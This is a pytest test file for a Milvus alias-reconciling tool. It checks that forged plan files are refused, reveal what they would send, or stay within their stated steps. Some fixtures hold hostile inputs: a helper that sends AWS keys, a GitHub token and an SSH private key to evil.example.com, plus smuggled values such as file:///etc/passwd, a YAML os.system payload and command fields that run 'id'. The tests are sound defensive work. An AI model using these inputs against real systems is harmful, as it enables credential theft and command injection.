"""A plan file that an attacker wrote, its digest and checksum right: what it can do, and what it cannot.

Under `apply -f … --plan` it can do nothing: what is applied is planned anew. Under `apply PLANFILE` it is trusted like
a script, for what it says: its steps, at the address and with the token that it names, and nothing beyond.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings

from reconciler.catalog import Catalog, Catalogs
from reconciler.catalog.memory import MemoryServer
from reconciler.core.errors import AliasctlError, InvalidInput
from reconciler.core.model import Connection, Credential
from reconciler.core.plan import Plan
from reconciler.core.report import Outcome, Report
from reconciler.documents.plan_file import FORM, PLAN, PlanDocument, checksum, load_plan, plan_document
from reconciler.documents.saved_file import load, target_plan_of
from reconciler.execute.saved_plan import ensure_fresh, ensure_reviewed
from reconciler.reconcile import apply_plan, make_plan
from reconciler.render.results import plan_result
from tests.builders import LOCAL, alias_set, catalogs, live, server
from tests.hostile.mutations import bounded, mutated
from tests.reliability.tally import Tally

OpenSuite = Callable[[str, str], Tally]
LIVE = {"a": "v1", "b": "v1", "mine": "v1", "precious": "v1"}
EXPECTED = alias_set({"a": "v2", "b": None, "n": "v1", "precious": "v2"}, protect=("precious",))
"""An alter, a drop, a create, and an alias that is protected."""


def milvus() -> MemoryServer:
    return server("v1", "v2", aliases=LIVE)


def reviewed() -> dict[str, Any]:
    return plan_document(make_plan([EXPECTED], catalogs=catalogs(milvus())))


def forged(document: dict[str, Any], path: Path) -> Path:
    """Write a plan with the digest and the checksum that it should have, as far as it is a plan at all."""
    try:
        path.write_text(json.dumps(document))
        _, content = load(path, FORM, PlanDocument)
        targets = tuple(target_plan_of(target, target.steps, path, FORM) for target in content.targets)
        document = {**document, "digest": Plan(targets, "", "").digest}
        document["checksum"] = checksum(document)
    except (AliasctlError, AttributeError, TypeError):
        pass
    path.write_text(json.dumps(document))
    return path


def edited(tmp_path: Path, edit: Callable[[Any], object]) -> Path:
    document = reviewed()
    edit(document["targets"][0])
    return forged(document, tmp_path / "plan.json")


def apply_bare(path: Path, made: MemoryServer) -> tuple[Plan, Report, list[Connection]]:
    """`apply PLANFILE`, and the connections that it opened."""
    seen: list[Connection] = []

    def connect(connection: Connection, database: str, *, create: bool = False) -> Catalog:
        seen.append(connection)
        return made.connect(connection, database, create=create)

    plan = load_plan(path)
    with Catalogs(connect, create=True) as opened:
        ensure_fresh(plan, catalogs=opened)
        return plan, apply_plan(plan, catalogs=opened), seen


def apply_reviewed(path: Path, made: MemoryServer) -> Report:
    """`apply -f … --plan PLANFILE`."""
    with catalogs(made) as opened:
        plan = make_plan([EXPECTED], catalogs=opened)
        ensure_reviewed(plan, load_plan(path))
        return apply_plan(plan, catalogs=opened)


tried = settings(max_examples=300, suppress_health_check=list(HealthCheck))


def test_a_forged_plan_can_do_no_more_than_its_steps_say(tally: OpenSuite, tmp_path: Path) -> None:
    suite = tally("Forged plan files under apply PLANFILE", "in-memory Milvus")

    @tried
    @given(mutated(reviewed()))
    def holds(document: Any) -> None:
        made = milvus()
        with suite.case(faults=1), bounded():
            try:
                plan, report, seen = apply_bare(forged(document, tmp_path / "plan.json"), made)
            except AliasctlError:
                assert live(made) == LIVE, "an error of 1 says that nothing was written"
                return
            after = live(made)
            ends = {step.alias: step.desired for step in plan.runnable}
            for alias in LIVE.keys() | after.keys():
                if after.get(alias) != LIVE.get(alias):
                    assert after.get(alias) == ends[alias]
            assert len(report.results) == len(plan.steps)
            endpoints = [endpoint for each in plan.set_plans for endpoint in each.verify.endpoints]
            assert set(seen) <= {*(target.connection for target in plan.targets), *endpoints}

    holds()


def test_a_forged_plan_under_review_does_what_the_manifests_say_or_nothing(tally: OpenSuite, tmp_path: Path) -> None:
    suite = tally("Forged plan files under apply -f … --plan", "in-memory Milvus")
    meant = milvus()
    with catalogs(meant) as opened:
        apply_plan(make_plan([EXPECTED], catalogs=opened), catalogs=opened)

    @tried
    @given(mutated(reviewed()))
    def holds(document: Any) -> None:
        made = milvus()
        with suite.case(faults=1), bounded():
            try:
                apply_reviewed(forged(document, tmp_path / "plan.json"), made)
            except AliasctlError:
                assert live(made) == LIVE
            else:
                assert live(made) == live(meant)

    holds()


def first(target: Any) -> Any:
    return target["steps"][0]


def one_more(target: Any) -> Any:
    return {**first(target), "alias": "mine", "from": "v1", "to": "v2"}


def specify(target: Any, **gates: Any) -> None:
    first(target)["gateSpecification"] = gates


def unblock(target: Any) -> None:
    """The step that protection holds up."""
    [blocked] = [step for step in target["steps"] if "blocked" in step]
    del blocked["blocked"]


def another_server(target: Any) -> None:
    target["address"] = "evil.example.com:19530"
    target["connection"]["uri"] = "http://evil.example.com:19530"


@pytest.mark.parametrize(
    "edit",
    [
        pytest.param(lambda target: first(target).update(to="v1"), id="another end"),
        pytest.param(lambda target: target["steps"].append(one_more(target)), id="one more step"),
        pytest.param(lambda target: target.update(database="other"), id="another database"),
        pytest.param(lambda target: specify(target, loaded={"enabled": False}), id="a gate off"),
        pytest.param(lambda target: first(target).update(skippedGates=["loaded"]), id="a gate skipped"),
        pytest.param(lambda target: first(target).update(reverting=True), id="a way back"),
        pytest.param(lambda target: target["sets"][0].update(onFailure="Revert"), id="on failure"),
        pytest.param(lambda target: another_server(target), id="another server"),
    ],
)
def test_other_work_than_the_manifests_want_is_refused_under_review(
    edit: Callable[[Any], object], tmp_path: Path
) -> None:
    with pytest.raises(AliasctlError, match="stale"):
        apply_reviewed(edited(tmp_path, edit), milvus())


def test_protection_is_not_a_matter_of_the_plan_file_under_review(tmp_path: Path) -> None:
    made = milvus()
    report = apply_reviewed(edited(tmp_path, unblock), made)
    assert live(made)["precious"] == "v1"
    assert Outcome.BLOCKED in report.counts


def test_bare_a_plan_file_decides_what_is_protected_as_a_script_would(tmp_path: Path) -> None:
    """Said in SECURITY.md: this form trusts whoever can write the file."""
    made = milvus()
    apply_bare(edited(tmp_path, unblock), made)
    assert live(made)["precious"] == "v2"


def test_a_step_whose_alias_is_elsewhere_is_stale_whatever_the_file_says(tmp_path: Path) -> None:
    made = milvus()
    with pytest.raises(AliasctlError, match="the plan is stale"):
        apply_bare(edited(tmp_path, lambda target: first(target).update({"from": "v9"})), made)
    assert live(made) == LIVE


def steal(target: Any) -> None:
    """Have a variable and a file that are no token of Milvus's sent to servers of the attacker's."""
    another_server(target)
    hook = {"name": "x", "uri": "http://evil.example.com/x", "secret": {"env": "GITHUB_TOKEN"}, "timeoutSeconds": 1}
    target["connection"] |= {"name": "prod", "token": {"env": "AWS_SECRET_ACCESS_KEY"}, "hooks": [hook]}
    proxy = {**target["connection"], "uri": "http://evil.example.com:443", "token": {"file": "/root/.ssh/id_rsa"}}
    target["sets"][0]["verify"] = {"endpoints": [{"address": "evil.example.com:443", "connection": proxy}]}


def test_show_tells_which_secret_a_plan_file_would_send_where(tmp_path: Path) -> None:
    """That a plan file names places of secrets is how it works at all; that it does so unseen is not."""
    told = "\n".join(line.plain for line in plan_result(load_plan(edited(tmp_path, steal)), saved=True).lines())
    assert "the token in environment variable AWS_SECRET_ACCESS_KEY goes to evil.example.com:19530" in told
    assert "the token in file /root/.ssh/id_rsa goes to evil.example.com:443" in told
    assert "the secret in environment variable GITHUB_TOKEN is for evil.example.com" in told


def test_a_token_that_the_call_names_is_the_one_that_is_sent(tmp_path: Path) -> None:
    """And a plan of ours, made from a manifest, tells nothing that its reader did not write."""
    mine = alias_set({"a": "v2"}, connection=Connection("c", LOCAL.uri, LOCAL.address, token=Credential(env="MINE")))
    plan = make_plan([mine], catalogs=catalogs(milvus()))
    assert not any("MINE" in line.plain for line in plan_result(plan, saved=True).lines())


@pytest.mark.parametrize(
    "place",
    [
        lambda target: target["connection"].update(uri="http://elsewhere.example.com:19530"),
        lambda target: target["connection"].update(uri="file:///etc/passwd"),
        lambda target: target["connection"].update(uri="!!python/object/apply:os.system [id]"),
        lambda target: target["connection"].update(token={"command": "id"}),
        lambda target: target["connection"].update(token={"secretKeyRef": {"name": "s", "key": "k"}}),
        lambda target: target["connection"].update(proxyCommand="id"),
        lambda target: first(target).update(hooks=["id"]),
        lambda target: first(target).update(action="create"),
        lambda target: specify(target, exec={"command": "id"}),
        lambda target: specify(target, canary={"k": 1, "minOverlap": 0, "queriesFile": "/x"}),
        lambda target: target["sets"][0].update(verify={"soakSeconds": 1e308}),
        lambda target: target["sets"][0].update(verify={"propagation": {"timeoutSeconds": 86_400}}),
        lambda target: first(target).update(alias={"__class__": "x"}),
        lambda target: first(target).update(alias="\ud800"),
    ],
)
def test_what_a_plan_file_has_no_words_for_is_refused(place: Callable[[Any], object], tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="plan file"):
        load_plan(edited(tmp_path, place))


def test_a_key_that_is_given_twice_is_refused(tmp_path: Path) -> None:
    """A reviewer's tool might show the first one, where the last one would be done."""
    path = edited(tmp_path, lambda target: None)
    path.write_text(path.read_text().replace('"alias": "a"', '"alias": "harmless", "alias": "a"'))
    with pytest.raises(InvalidInput, match="not a plan file"):
        load_plan(path)


@pytest.mark.parametrize(
    "edit",
    [
        lambda target: target["connection"].update(concurrency=8.0),
        lambda target: target.update(aliases=4.0, calls=2.0),
        lambda target: first(target).update(wave=0.0),
        lambda target: specify(target, canary={"k": 2.0, "minOverlap": 0.0, "sample": 2.0}),
    ],
)
def test_whole_numbers_may_have_a_point(edit: Callable[[Any], object], tmp_path: Path) -> None:
    """To JSON Schema 8.0 is an integer; to Python it is no number of threads, and once ended an apply half way."""
    plan, *_ = apply_bare(edited(tmp_path, edit), milvus())
    assert isinstance(plan.targets[0].connection.concurrency, int)
    assert isinstance(plan.steps[0].wave, int)


def test_the_schema_leaves_nothing_open() -> None:
    """Every object in a plan file says what may be in it."""

    def open_objects(schema: Any, path: str) -> list[str]:
        if not isinstance(schema, dict):
            return []
        found = [path] if schema.get("type") == "object" and "additionalProperties" not in schema else []
        for key, part in schema.items():
            below = part if isinstance(part, list) else [part]
            found += [place for item in below for place in open_objects(item, f"{path}.{key}")]
        return found

    assert open_objects(PLAN.schema(), "plan") == []
